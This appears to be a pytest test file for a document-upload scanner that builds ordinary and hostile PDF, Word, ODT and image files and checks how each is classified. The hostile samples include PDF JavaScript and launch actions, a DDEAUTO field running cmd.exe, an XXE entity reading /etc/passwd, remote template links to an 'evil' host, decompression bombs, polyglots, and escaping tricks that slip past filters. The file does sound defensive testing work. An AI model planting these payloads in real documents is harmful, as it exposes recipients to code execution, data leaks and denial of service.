"""Hostile files, each made here: bombs, two types at once, active documents."""

import random
import struct
import zipfile
import zlib
from io import BytesIO

import pytest
from common.dangers import MOST_ENTRIES, Danger, danger
from PIL import Image

PDF, PNG, JPEG, DOCX = (
    "application/pdf",
    "image/png",
    "image/jpeg",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
)
QUIET = b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n%%EOF\n"


def picture(kind: str, size: tuple[int, int] = (8, 8)) -> bytes:
    target = BytesIO()
    Image.new("RGB", size, "teal").save(target, kind)
    return target.getvalue()


def archive(parts: dict[str, bytes], *, packed: bool = True) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as made:
        for name, content in parts.items():
            # Of a fixed date: a test's name must be the same in every process.
            made.writestr(zipfile.ZipInfo(name), content, compress_type=made.compression)
    return target.getvalue()


def docx(**parts: bytes) -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | parts)


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ELSEWHERE = "http://evil/a.dotm"


def related(attributes: str, *, encoding: str = "utf-8") -> bytes:
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    listed = f'<Relationships xmlns="{namespace}"><Relationship Id="a" {attributes}/></Relationships>'
    return docx(**{"word/_rels/settings.xml.rels": listed.encode(encoding)})


ODT = "application/vnd.oasis.opendocument.text"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def odt(body: str, *, encoding: str = "utf-8") -> bytes:
    prefixes = ("office", "text", "draw", "meta", "script")
    names = " ".join(f'xmlns:{one}="urn:oasis:names:tc:opendocument:xmlns:{one}:1.0"' for one in prefixes)
    content = f'<office:body {names} xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:body>'
    return archive({"mimetype": ODT.encode(), "content.xml": content.encode(encoding)})


def field(*pieces: str) -> bytes:
    """A Word document with one field, whose instruction lies in so many pieces."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return docx(**{"word/document.xml": f"<w:p {WORD}>{begin}{said}{end}<w:t>DDE</w:t></w:p>".encode()})


def stream(objects: bytes, *, entries: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(objects)
    return b"%PDF-1.7\n5 0 obj <<" + entries + b">> stream\n" + packed + b"\nendstream endobj\n%%EOF"


def hexed(objects: bytes) -> bytes:
    """Objects packed so that one must undo two filters to read them."""
    packed = zlib.compress(objects).hex().encode() + b">"
    entries = b"6 0 obj <</Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]>> stream\n"
    return entries + packed + b"\nendstream endobj\n"


def pictured(entries: bytes) -> bytes:
    return QUIET + b"5 0 obj <</Subtype /Image " + entries + b">> stream\nx\nendstream endobj\n"


def png(width: int, height: int) -> bytes:
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))


def jpeg(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\1\1\0\0\1\0\1\0\0"
    return b"\xff\xd8" + app0 + b"\xff\xff\xc2" + struct.pack(">HBHHB", 8, 8, height, width, 3)


def heic(width: int, height: int) -> bytes:
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x14ispe" + struct.pack(">III", 0, width, height)


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (QUIET, PDF),
        (stream(b"1 0 2 10 <</Type /Page>> <</Type /Font>>"), PDF),
        (b"%PDF-1.7\n" + random.Random(7).randbytes(3_000_000), PDF),
        (QUIET + b"<</S /URI /URI (https://mila.ru)>> /JSX /Renditions", PDF),
        (stream(b"1 0 0 1 0 0 cm", entries=b"/Filter /FlateDecode"), PDF),
        (pictured(b"/Width 5000 /Height 10000"), PDF),
        (pictured(b"/Width 50000 /Height 9") + pictured(b"/Height 50000 /Width 9"), PDF),
        (
            pictured(b"/Width 7 0 R /Height 8 0 R") + b"7 0 obj 5000 endobj\n8 0 obj\n9 endobj 17 0 obj 99999 endobj",
            PDF,
        ),
        (odt(f'<text:a xlink:href="{ELSEWHERE}"/>'), ODT),
        (odt('<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>'), ODT),
        (odt('<meta:template xlink:href="../../usr/share/letter.ott"/>'), ODT),
        (field("PAGE"), DOCX),
        (field(' INCLUDEPICTURE "https://mila.ru/a.png" ', " \\\\* MERGEFORMATINET"), DOCX),
        (field("AUTHOR ", "DDEAUTO of a name"), DOCX),
        (QUIET + b"PK\x05\x06 by chance " + b"x" * 100, PDF),
        (picture("PNG"), PNG),
        (picture("JPEG"), JPEG),
        (picture("WEBP"), "image/webp"),
        (picture("GIF"), "image/gif"),
        (png(10_000, 5_000), PNG),
        (jpeg(8_000, 6_000), JPEG),
        (heic(8064, 6048), "image/heic"),
        (docx(), DOCX),
        (docx(**{"word/media/a.bin": bytes(5_000_000)}), DOCX),
        (related(f'Type="{OFFICE}hyperlink" Target="https://mila.ru" TargetMode="External"'), DOCX),
        (related(f'TargetMode="External" Type="{OFFICE}hyperlink" Target="https://mila.ru"'), DOCX),
        (related(f'Type="{OFFICE}image" Target="media/a.png"'), DOCX),
        (docx(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}), DOCX),
        ("АД 120/80\n".encode(), "text/plain"),
    ],
)
def test_an_ordinary_file_passes(content: bytes, content_type: str) -> None:
    assert danger(BytesIO(content), content_type) is None


@pytest.mark.parametrize(
    ("content", "content_type", "found"),
    [
        (QUIET + b"/S /JavaScript /JS (app.alert(1))", PDF, Danger.ACTIVE),
        (QUIET + b"/S /J#61vaScript", PDF, Danger.ACTIVE),
        (QUIET + b"<</S /Launch /F (cmd.exe)>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</Names <</EmbeddedFiles 5 0 R>>>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</Type /EmbeddedFile>>", PDF, Danger.ACTIVE),
        (QUIET + b"/AcroForm <</XFA [(a) 1 0 R]>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</S/Rendition/OP 0/JS(app.alert(1))>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</S /Rendition /R 5 0 R>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</JS 9 0 R>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</#4a#53 <6170702e>>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</JS% a comment\n(app.alert(1))>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</S /ImportData /F (a)>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</S /GoTo#45 /T 1 0 R>>", PDF, Danger.ACTIVE),
        (QUIET + b"<</S/SubmitForm/F(http://e.example/)>>", PDF, Danger.ACTIVE),
        (stream(b"1 0 <</S /Rendition /JS (x)>>"), PDF, Danger.ACTIVE),
        (stream(b"1 0 0 1 0 0 cm", entries=b"/Filter /FlateDecode") + hexed(b"9 0 <</S /JavaScript>>"), PDF,
         Danger.ENCRYPTED),
        (hexed(b"9 0 <<>>") + stream(b"1 0 <<>>"), PDF, Danger.ENCRYPTED),
        (stream(b"1 0 <<>>", entries=b"/Type /ObjStm /X (") + hexed(b"9 0 <</S /JavaScript>>"), PDF, Danger.ENCRYPTED),
        (stream(b"1 0 <<>>") + hexed(b"9 0 <</S /JavaScript>>").replace(b"ObjStm", b"O#62jStm"), PDF,
         Danger.ENCRYPTED),
        (pictured(b"/Width 50000 /Height 50000"), PDF, Danger.TOO_MANY_PIXELS),
        (pictured(b"/Height 50000/W#69dth 1001"), PDF, Danger.TOO_MANY_PIXELS),
        (pictured(b"/Width 9 /Height 9") + pictured(b"/Width " + b"9" * 6000 + b" /Height 1"), PDF,
         Danger.TOO_MANY_PIXELS),
        (stream(b"1 0 <</S /JavaScript /JS (x)>>"), PDF, Danger.ACTIVE),
        (stream(b"1 0 <</S /JavaScript>>", entries=b"/Type /Obj#53tm"), PDF, Danger.ACTIVE),
        (stream(b"not objects", entries=b"/Encrypt 1 0 R /Type /ObjStm"), PDF, Danger.ENCRYPTED),
        (stream(b"1 0 " + b" " * 70_000_000), PDF, Danger.UNPACKS_TOO_LARGE),
        (QUIET + archive({"evil.js": b"alert(1)"}), PDF, Danger.POLYGLOT),
        (QUIET + archive({"a": b"b"})[:-2] + b"\x0a\0" + b"c" * 10, PDF, Danger.POLYGLOT),
        (b"%PDF-1.7\n<script>alert(1)</script>", PDF, Danger.POLYGLOT),
        (b"GIF89a/*\x08\0\x80\0\0*/=1;alert(1)", "image/gif", Danger.POLYGLOT),
        (picture("JPEG") + archive({"a.class": b"x"}), JPEG, Danger.POLYGLOT),
        (picture("PNG") + archive({"a": b"x"}), PNG, Danger.POLYGLOT),
        (png(50_000, 50_000), PNG, Danger.TOO_MANY_PIXELS),
        (jpeg(65_000, 1_000), JPEG, Danger.TOO_MANY_PIXELS),
        (heic(20_000, 20_000), "image/heic", Danger.TOO_MANY_PIXELS),
        (b"RIFF\0\0\0\0WEBPVP8X" + b"\0" * 8 + b"\xff\xff\0" * 2, "image/webp", Danger.TOO_MANY_PIXELS),
        (b"GIF89a" + struct.pack("<HH", 60_000, 60_000), "image/gif", Danger.TOO_MANY_PIXELS),
        (b"\xff\xd8\xff", JPEG, Danger.UNREADABLE),
        (b"\x89PNG\r\n\x1a\n", PNG, Danger.UNREADABLE),
        (docx(**{"word/a.xml": bytes(250 * 1024 * 1024)}), DOCX, Danger.UNPACKS_TOO_LARGE),
        (docx(**{"word/a.bin": bytes(20 * 1024 * 1024)}), DOCX, Danger.UNPACKS_TOO_LARGE),
        (archive({f"{n}": b"" for n in range(MOST_ENTRIES + 1)}), DOCX, Danger.TOO_MANY_PARTS),
        (docx(**{"word/vbaProject.bin": b"x"}), DOCX, Danger.ACTIVE),
        (docx(**{"word/x.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'}), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (docx(**{"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), DOCX, Danger.OUTSIDE_REFERENCES),
        (docx(**{"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                 b'Target="http://evil/a.dotm" TargetMode="External"/>'}), DOCX, Danger.OUTSIDE_REFERENCES),
        (related(f'TargetMode="External" Target="{ELSEWHERE}" Type="{OFFICE}attachedTemplate"'), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (related(f"Type='{OFFICE}attachedTemplate' Target='{ELSEWHERE}' TargetMode='External'"), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (related(f'Type="{OFFICE}attachedTemplate" Target="{ELSEWHERE}" TargetMode = "External"'), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (related(f'Type="{OFFICE}attached&#84;emplate" Target="{ELSEWHERE}" TargetMode="&#69;xternal"'), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (related(f'TargetMode="External" Type="{OFFICE}attachedTemplate"', encoding="utf-16"), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (related(f'Type="{OFFICE}image" Target="http://evil/p.png" TargetMode="External"'), DOCX,
         Danger.OUTSIDE_REFERENCES),
        (related('TargetMode="External" Target="http://evil/p.png"'), DOCX, Danger.OUTSIDE_REFERENCES),
        (related("TargetMode="), DOCX, Danger.UNREADABLE),
        (docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), DOCX, Danger.ACTIVE),
        (docx(**{"xl/embeddings/a.docm": b"PK"}), DOCX, Danger.ACTIVE),
        (docx(**{"word/activeX/activeX1.xml": b"<a/>"}), DOCX, Danger.ACTIVE),
        (pictured(b"/Width 7 0 R /Height 8 0 R") + b"7 0 obj 50000 endobj\n8 0 obj\n50000\nendobj", PDF,
         Danger.TOO_MANY_PIXELS),
        (pictured(b"/Height 9000 /W#69dth 07 0 R") + b"7 0 obj 1 endobj\n007  0 obj 9000 endobj", PDF,
         Danger.TOO_MANY_PIXELS),
        (pictured(b"/Height 9 /Width 7 0 R") + stream(b"7 0 90000000"), PDF, Danger.TOO_MANY_PIXELS),
        (odt(f'<draw:image xlink:href="{ELSEWHERE}"/>'), ODT, Danger.OUTSIDE_REFERENCES),
        (odt('<text:section-source xlink:href="\\\\evil\\share\\a.odt"/>'), ODT, Danger.OUTSIDE_REFERENCES),
        (odt('<draw:object xlink:href="../a.ods"/>'), ODT, Danger.OUTSIDE_REFERENCES),
        (odt('<draw:image xlink:href="&#104;ttp://evil/"/>'), ODT, Danger.OUTSIDE_REFERENCES),
        (odt(f'<draw:image xlink:href="{ELSEWHERE}"/>', encoding="utf-16"), ODT, Danger.OUTSIDE_REFERENCES),
        (odt('<office:dde-source office:dde-application="soffice"/>'), ODT, Danger.ACTIVE),
        (odt('<script:event-listener xlink:href="Standard.a"/>'), ODT, Danger.ACTIVE),
        (field(r' DDEAUTO c:\\windows\\cmd.exe "/k calc"'), DOCX, Danger.ACTIVE),
        (field("D", "D", 'E excel "a"'), DOCX, Danger.ACTIVE),
        (field("QUOTE 68 68 69 65"), DOCX, Danger.ACTIVE),
        (docx(**{"word/header1.xml": f'<w:hdr {WORD}><w:fldSimple w:instr="dde excel"/></w:hdr>'.encode()}), DOCX,
         Danger.ACTIVE),
        (docx(**{"xl/externalLinks/a.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), DOCX,
         Danger.ACTIVE),
        (docx(**{"word/header1.xml": b"<a><b></a>"}), DOCX, Danger.UNREADABLE),
        (b"PK\3\4 nothing", DOCX, Danger.UNREADABLE),
    ],
)  # fmt: skip
def test_a_dangerous_file_is_named_for_its_danger(content: bytes, content_type: str, found: Danger) -> None:
    assert danger(BytesIO(content), content_type) is found
